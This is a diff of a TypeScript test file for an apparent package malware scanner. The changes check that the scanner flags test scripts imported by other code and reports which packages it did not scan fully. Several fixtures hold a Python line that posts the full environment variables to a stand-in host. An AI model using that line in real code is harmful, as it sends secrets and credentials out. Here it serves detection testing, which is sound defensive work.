@@ -2,6 +2,7 @@ import { fileURLToPath } from 'node:url';
 import { expect, it } from 'vitest';
 import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
 import { memoryTree } from '../../support/memory-tree.js';
+import { packageOf } from '../../support/model-builders.js';
 import { withLimit } from '../../support/lowered-limit.js';
 
 const signatures = completeSet(
@@ -36,13 +37,39 @@ it('follows lines of start-up files', async () => {
   expect(await rulesIn({ 'x.pth': pth })).toContain(SENT);
 });
 
-it('leaves scripts of tests out', async () => {
+it('follows scripts of tests if other code loads them', async () => {
   const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
   expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
+  const loading = { 'pkg/__init__.py': 'from .tests import test_a\n', 'pkg/tests/test_a.py': code };
+  expect(await rulesIn(loading)).toContain(SENT);
+  await withLimit('behaviour-python-together', 10, async () => {
+    expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
+    expect(await rulesIn(loading)).toContain(SENT);
+  });
 });
 
 it('follows scripts whose first line names Python, whatever they are called', async () => {
   const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
   expect(await rulesIn({ 'bin/tool': `#!/usr/bin/env python3\n${code}` })).toContain(SENT);
   expect(await rulesIn({ 'bin/tool': `#!/bin/sh\n${code}` })).not.toContain(SENT);
+});
+
+it('tells what it did not follow to the end, of packages that few know as incomplete', async () => {
+  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+  const tree = memoryTree({ 'a/__init__.py': code });
+  const problemsOf = async (name: string) => {
+    const packages = [packageOf(name, '1', { ecosystem: 'PyPI', locations: [{ path: 'a' }] })];
+    return (await scanSignatures({ tree, packages, signatures })).problems;
+  };
+  await withLimit('behaviour-python-steps', 0, async () => {
+    expect(await problemsOf('nobody-knows-it')).toMatchObject([
+      { path: 'a/__init__.py', affectsCompleteness: true },
+    ]);
+    expect(await problemsOf('requests')).toMatchObject([
+      { path: 'a/__init__.py', affectsCompleteness: false },
+    ]);
+  });
+  await withLimit('python-depth', 2, async () => {
+    expect(await problemsOf('requests')).toMatchObject([{ code: 'too-large', affectsCompleteness: true }]);
+  });
 });
